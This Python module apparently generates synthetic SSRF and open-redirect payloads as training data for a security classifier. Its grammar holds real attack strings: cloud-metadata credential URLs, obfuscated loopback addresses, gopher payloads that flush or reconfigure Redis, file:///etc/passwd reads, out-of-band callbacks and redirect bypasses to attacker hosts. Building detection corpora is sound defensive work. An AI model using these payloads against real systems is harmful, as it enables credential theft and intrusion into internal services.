"""Server-side request forgery and open redirects: inner addresses, odd schemes, call-backs."""

from __future__ import annotations

from random import Random

from securitai.train.corpora.attacks.grammar import Grammar
from securitai.train.corpora.attacks.parts import PARTS, private_ip
from securitai.train.corpora.attacks.style import percent
from securitai.train.corpora.kinds import HEADER, PATH, VALUE, AttackKind
from securitai.verdict import Category

_METADATA_IP = (169, 254, 169, 254)


def odd_ip(rng: Random) -> str:
    """The loopback or metadata address as one number, in hex, octal, IPv6 or mixed parts."""
    octets = _METADATA_IP if rng.random() < 0.45 else tuple(map(int, private_ip(rng).split(".")))
    value = int.from_bytes(bytes(octets), "big")
    form = int(rng.random() * 12)
    if form == 0:
        return str(value)
    if form == 1:
        return hex(value)
    if form == 2:
        return f"0{value:o}"
    if form == 3:
        return ".".join([hex(part) for part in octets])
    if form == 4:
        return ".".join([f"0{part:o}" for part in octets])
    if form == 5:
        return f"[::ffff:{'.'.join(map(str, octets))}]"
    if form == 6:
        return f"[::ffff:{value >> 16:x}:{value & 0xFFFF:x}]"
    if form == 7:
        return f"{octets[0]}.{value & 0xFFFFFF}"
    if form == 8:
        return f"0x{octets[0]:02x}.0{octets[1]:o}.{value & 0xFFFF}"
    if form == 9:
        return ".".join([f"{part:0{4 + int(rng.random() * 5)}o}" for part in octets])
    if form == 10:
        return "".join([chr(0x2460 + int(d) - 1) if d in "123456789" else d for d in _dots(octets)])
    return ".".join([str(part + 256) for part in octets])


def _dots(octets: tuple[int, ...]) -> str:
    return ".".join(map(str, octets))


def url_written(rng: Random, text: str) -> str:
    """Some URLs travel percent-encoded once or twice more."""
    roll = rng.random()
    if roll < 0.9:
        return text
    if roll < 0.96:
        return text.replace(":", "%3A").replace("/", "%2F")
    return percent(text, every=True) if roll < 0.98 else percent(percent(text))


_G = Grammar(
    r"""
meta:
  4×http://169.254.169.254/latest/‹metapath›
  http://169.254.169.254/latest/api/token
  http://169.254.169.254/
  http://[fd00:ec2::254]/latest/‹metapath›
  http://instance-data/latest/‹metapath›
  http://‹oddip›/latest/‹metapath›
  2×http://metadata.google.internal/computeMetadata/‹v1¦v1beta1›/‹gpath›
  http://metadata/computeMetadata/v1/‹gpath›
  http://169.254.169.254/computeMetadata/v1/‹gpath›
  2×http://169.254.169.254/metadata/‹instance?api-version=2021-02-01¦identity/oauth2/token?api-version=2018-02-01&resource=https://management.azure.com/¦v1.json¦v1/id›
  http://100.100.100.200/latest/meta-data/‹instance-id¦image-id¦ram/security-credentials/›
  http://192.0.0.192/latest/‹user-data/¦meta-data/¦attributes/›
  http://169.254.170.2/v2/‹credentials/¦metadata›
  http://169.254.169.254/opc/v‹1¦2›/instance/
  http://169.254.169.254/openstack/latest/‹meta_data.json¦user_data¦password›
  http://169.254.169.254/hetzner/v1/metadata
  http://169.254.169.254/v1/‹metadata¦maintenance›
  http://rancher-metadata/latest/
  http://kubernetes.default.svc/‹api/v1/namespaces/default/secrets¦version¦metrics›
  https://kubernetes.default/api/v1/‹pods¦secrets›
  http://169.254.169.254.‹xip.io¦nip.io¦sslip.io›/latest/meta-data/
  http://169.254.169.254@‹host›/
  http://‹site›@169.254.169.254/latest/meta-data/
  //169.254.169.254/latest/meta-data/
  169.254.169.254
metapath = meta-data/¦meta-data/iam/security-credentials/¦meta-data/iam/security-credentials/admin¦user-data¦dynamic/instance-identity/document¦meta-data/hostname¦meta-data/public-keys/0/openssh-key¦meta-data/ami-id¦meta-data/local-ipv4¦meta-data/placement/availability-zone
gpath = instance/service-accounts/default/token¦instance/¦project/attributes/ssh-keys?alt=json¦instance/attributes/kube-env¦project/project-id¦instance/disks/?recursive=true
lo = localhost¦127.0.0.1¦127.0.0.1¦0.0.0.0¦0¦127.1¦127.0.1¦[::1]¦[::]¦[0:0:0:0:0:ffff:127.0.0.1]¦127.127.127.127¦127.0.0.0¦2130706433¦0x7f000001¦017700000001¦0177.0.0.1¦0x7f.0.0.1¦localtest.me¦lvh.me¦127.0.0.1.nip.io¦spoofed.burpcollaborator.net¦localhost.localdomain¦ip6-localhost¦①②⑦.⓪.⓪.①¦127。0。0。1¦LOCALHOST¦loopback¦[0000::1]¦127.0.0.1.xip.io¦ⓛⓞⓒⓐⓛⓗⓞⓢⓣ¦3232235521¦host.docker.internal¦customer1.app.localhost.my.company.127.0.0.1.nip.io¦127.00000.00000.001¦7f000001.c0a80001.rbndr.us¦1u.ms¦make-127-0-0-1-rr.1u.ms¦[::ffff:127.0.0.1]
inport = 22¦25¦80¦443¦2375¦3306¦5432¦6379¦8443¦9200¦11211¦27017¦5984¦8500¦2379¦10250¦6443¦15672¦7001¦9090¦1433¦21¦23¦5601¦50070¦4444¦81
inpath = ¦¦¦/¦/admin¦/admin/delete?username=carlos¦/server-status¦/_cat/indices¦/containers/json¦/v1/agent/self¦/manager/html¦/actuator/env¦/phpinfo.php¦/api/v1/pods¦/.env¦/config¦/debug/pprof¦/console¦/v2/keys/?recursive=true¦/wp-admin¦/solr/admin/cores¦/jenkins/script¦/private¦/flag¦/internal/users
inner:
  4×http://‹lo›:‹inport›‹inpath›
  3×http://‹lo›‹inpath›
  http‹¦s›://‹ipriv›‹inpath›
  2×http://‹ipriv›:‹inport›‹inpath›
  3×http://‹oddip›‹inpath›
  http://‹oddip›:‹inport›‹inpath›
  http://‹site›@‹lo›:‹inport›‹inpath›
  http://‹lo›#‹site›
  http://‹lo›%23@‹site›/
  http://‹lo›?@‹site›/
  http://‹lo›\@‹site›/
  http://‹site›%00@‹lo›/
  http://1.1.1.1 &@2.2.2.2# @‹lo›/
  http://‹lo›:‹inport›:‹inport›/
  http:‹lo›/
  http:///‹lo›/
  http:/‹lo›:‹inport›/
  http:\\‹lo›\
  //‹lo›:‹inport›‹inpath›
  ///‹lo›/
  hTTp://‹lo›/
  url:http://‹lo›/
  http://‹lo›.‹host›/
  http://‹lo›:‹inport›/%0d%0aHELO ‹az›%0d%0a
  http://‹lo›:‹inport›%0d%0aSET%20‹az›%20‹az›
  ‹lo›:‹inport›
  http://‹az›.svc.cluster.local:‹inport›/
  unix:/var/run/docker.sock
  unix:‹junk›|http://‹lo›/
scheme:
  3×gopher://‹lo›:‹inport›/_‹gop›
  gopher://‹hostport›/_‹gop›
  gopher://127.0.0.1:25/_HELO%20localhost%0D%0AMAIL%20FROM%3A%3C‹mail›%3E%0D%0A
  2×dict://‹lo›:‹inport›/‹stats¦info¦keys›
  dict://‹host›:‹port›/‹d1›:‹az›
  sftp://‹host›:‹port›/
  tftp://‹host›:‹port›/‹az›
  ldap://‹lo›:‹inport›/%0astats%0aquit
  ldap://‹host›:‹port›/‹az›
  ftp://‹host›:‹port›/‹az›
  ftp://anonymous:‹az›@‹lo›:21/
  jar:http://‹lo›!/
  jar:‹url›!/
  netdoc:///etc/passwd
  file://‹u_file›
  file:///‹az›/‹az›
  imap://‹lo›:143/
  smtp://‹lo›:25/
  telnet://‹lo›:23/
  rtsp://‹host›/‹az›
  smb://‹host›/‹az›
  ssh2.exec://‹user›:‹rnd›@‹lo›/id
  php://filter/resource=http://‹lo›/
  view-source:http://‹lo›/
  local_file:///etc/passwd
  phar://‹az›
  mysql://‹lo›:3306/
  redis://‹lo›:6379/
  memcached://‹lo›:11211/
  ‹rnd›://‹rnd›@‹host›
  http://‹az›:443@‹host›
gop = *1%0d%0a$8%0d%0aflushall%0d%0a*3%0d%0a$3%0d%0aset%0d%0a$1%0d%0a1%0d%0a¦%2A1%0D%0A%248%0D%0Aflushall%0D%0A¦GET%20/%20HTTP/1.1%0D%0AHost:%20localhost%0D%0A¦%00%00%00%01¦SLAVEOF%20x%206379¦config%20set%20dir%20/var/www/html%0D%0A¦POST%20/%20HTTP/1.0%250D%250A¦stats%0D%0Aquit¦EHLO%20a%0D%0AMAIL%20FROM¦%a3%00%00%01%85%a6%ff%01
callback:
  6×http://‹sub›.‹oob›
  4×https://‹sub›.‹oob›/
  2×http://‹oob›
  2×https://‹oob›/
  2×https://‹oob›
  http://www.‹oob›
  ‹sub›.‹oob›
  //‹sub›.‹oob›
  https://‹oob›/‹path1›
  http://‹sub›.‹oob›/‹path1›
  https://‹sub›.‹oob›/?‹az›=‹n›
  http://‹ip›:‹port›/
  http://‹ip›:‹port›/‹path1›
  http://‹ip›/?‹az›=‹rnd›
  ftp://‹sub›.‹oob›
  http://‹site›.‹sub›.‹oob›/
  ‹mail›.‹sub›.‹oob›
  ‹user›@‹sub›.‹oob›
  http://‹sub›.‹oob›/latest/meta-data/
  https://webhook.site/‹hexrun›
  http://‹lo›.‹sub›.‹oob›
  https://‹user›:‹rnd›@‹sub›.‹oob›/
sub:
  2×‹rnd32›
  ‹rnd›
  ‹az›.‹rnd›
evilhost:
  3×‹evil›.‹tld›
  2×‹host›
  example.com
  ‹oob›
redirect:
  3×//‹evilhost›
  2×//‹evilhost›/%2f..
  2×/\‹evilhost›
  ///‹evilhost›
  ////‹evilhost›/%2e%2e
  /////‹evilhost›
  //‹evilhost›/%2f%2e%2e
  //‹evilhost›/..
  //%5c‹evilhost›
  /%5c‹evilhost›
  /%2f‹evilhost›
  /%2f%2f‹evilhost›
  /%09/‹evilhost›
  //%09/‹evilhost›
  /%0a/‹evilhost›
  /‹tab›/‹evilhost›
  /.‹evilhost›
  /\/‹evilhost›
  \/\/‹evilhost›/
  \\‹evilhost›
  /\\‹evilhost›
  https:‹evilhost›
  https:/‹evilhost›
  https:///‹evilhost›
  http:\\‹evilhost›
  https:\/‹evilhost›
  https://\‹evilhost›
  https://%5c‹evilhost›
  http:‹site›@‹evilhost›
  https://‹site›@‹evilhost›
  https://‹site›:‹rnd›@‹evilhost›
  https://‹site›%40‹evilhost›
  https://‹site›.‹evil›.‹tld›
  https://‹evilhost›#‹site›
  https://‹evilhost›?‹site›
  https://‹evilhost›\@‹site›
  https://‹evilhost›%23‹site›
  https://‹evilhost›%00.‹site›
  https://‹evilhost›%E3%80%82‹site›
  https://‹evilhost›;@‹site›
  https://‹evilhost›/‹site›
  //‹site›@‹evilhost›
  //‹evilhost›\@‹site›
  //‹evilhost›\t‹site›
  〱‹evilhost›
  ゝ‹evilhost›
  /〱‹evilhost›
  〵‹evilhost›
  ja\nva\tscript\r:alert(‹d1›)
  javascript:alert(‹d1›)//‹site›
  /redirect?url=//‹evilhost›
  /‹evilhost›/%2e%2e%2f
  ?next=//‹evilhost›
  /?url=//‹evilhost›&next=//‹evilhost›&redirect=//‹evilhost›
  .‹evilhost›
  @‹evilhost›
  :@‹evilhost›
  %0d%0a/‹evilhost›
  %2f%5c‹evilhost›
  /x:1/:///%01javascript:alert(‹d1›)/
  http://‹oddip›
  //‹oddip›/
  http://‹rnd›@‹oddip›
  http://%77%77%77.‹evilhost›
  //‹evilhost›/%252e%252e
  /https:/%5c‹evilhost›/
  /.evil.com/../‹evilhost›
  https://‹evil›.‹tld›/‹login¦phish¦verify¦steal¦x›
  http://‹evil›.‹tld›
""",
    PARTS,
    {"oddip": odd_ip, "junk": lambda rng: "A" * (100 + int(rng.random() * 4000))},
)
_SOME = (VALUE, HEADER)
KINDS = (
    AttackKind("ssrf.metadata", Category.SSRF, _G.maker("meta", url_written), 2.0, _SOME),
    AttackKind("ssrf.inner", Category.SSRF, _G.maker("inner", url_written), 4.0, _SOME),
    AttackKind("ssrf.scheme", Category.SSRF, _G.maker("scheme", url_written), 2.0, _SOME),
    AttackKind("ssrf.callback", Category.SSRF, _G.maker("callback", url_written), 4.0, _SOME),
    AttackKind(
        "ssrf.redirect", Category.SSRF, _G.maker("redirect", url_written), 2.5, (VALUE, PATH)
    ),
)
